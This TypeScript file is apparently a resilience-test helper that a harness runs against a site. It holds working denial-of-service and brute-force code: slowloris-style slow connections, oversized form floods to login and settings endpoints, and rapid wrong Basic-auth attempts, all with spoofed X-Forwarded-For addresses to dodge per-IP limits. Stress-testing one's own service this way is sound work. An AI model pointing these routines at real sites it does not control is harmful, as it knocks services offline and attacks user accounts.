/**
 * `attack.ts KIND URL TOKEN`: attacks a site from a separate process until its parent sends a message, then reports how many requests it
 * made.
 */
import { Agent, request } from 'node:http'
import { connect } from 'node:net'
import { setPriority } from 'node:os'
import { setTimeout as sleep } from 'node:timers/promises'

const SLOW_CLIENTS = 200
const REFUSED_FORM_BYTES = 8 * 1024 * 1024
/** The largest form that the site reads. */
const LARGEST_FORM_BYTES = 1024 * 1024
const FORMS_AT_A_TIME = 4
const TOKENS_A_MINUTE = 10_000

const [, , kind = '', url = '', authorization = ''] = process.argv
const { hostname, port } = new URL(url)
const agent = new Agent({ keepAlive: true, maxSockets: 16 })

const ATTACKS = {
  slow: slowClients,
  forms: () => largeForms(`description=${'a+'.repeat(REFUSED_FORM_BYTES / 2)}`),
  largest: () => largeForms(`description=${'a+'.repeat(LARGEST_FORM_BYTES / 2 - 10)}`),
  tokens: wrongTokens,
}
export type AttackName = keyof typeof ATTACKS

// Real attackers have their own machines: here they get only the CPU time that the site and its visitor do not use.
setPriority(19)
let requests = 0
process.once('message', () => process.send?.(requests, () => process.exit()))
ATTACKS[kind as AttackName]()
process.send?.('ready')

/** Opens connections that announce a body and then send 1 byte of it per second; replaces each connection that is closed. */
function slowClients(): void {
  for (let i = 0; i < SLOW_CLIENTS; i++) slowClient(`192.0.2.${1 + (i % 50)}`)
}

function slowClient(address: string): void {
  const socket = connect(Number(port), hostname)
  requests++
  socket.write(
    `POST /login HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${address}\r\n` +
      'Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\n',
  )
  const drops = setInterval(() => socket.write('a'), 1000)
  socket.on('error', () => undefined)
  socket.resume().once('close', () => {
    clearInterval(drops)
    setTimeout(() => slowClient(address), 1000)
  })
}

/** Sends half of the forms to the login, which needs no account, and the other half to a project's settings, as an authenticated user. */
function largeForms(text: string): void {
  for (let i = 0; i < FORMS_AT_A_TIME; i++)
    void forever(async () => {
      const path = i % 2 === 0 ? '/login' : '/api_3/project/edit/dana/hello-100'
      const headers = {
        'content-type': 'application/x-www-form-urlencoded',
        'content-length': String(text.length),
        'x-forwarded-for': `192.0.2.${100 + i}`,
        ...(i % 2 === 0 ? {} : { authorization }),
      }
      await send(path, headers, text)
      await sleep(100)
    })
}

function wrongTokens(): void {
  let i = 0
  setInterval(() => {
    const wrong = Buffer.from(`login${i++}:wrong`).toString('base64')
    const headers = { authorization: `Basic ${wrong}`, 'x-forwarded-for': `203.0.113.${i % 20}` }
    void send('/api_3/auth-check', headers).catch(() => undefined)
  }, 60_000 / TOKENS_A_MINUTE)
}

async function send(path: string, headers: Record<string, string>, body = ''): Promise<void> {
  const { promise, resolve, reject } = Promise.withResolvers<void>()
  const method = body === '' ? 'GET' : 'POST'
  const asked = request({ hostname, port, path, method, headers, agent }, (response) =>
    response.resume().once('close', resolve),
  )
  asked.once('error', reject).end(body)
  await promise
  requests++
}

async function forever(step: () => Promise<void>): Promise<void> {
  for (;;) await step().catch(async () => await sleep(100))
}
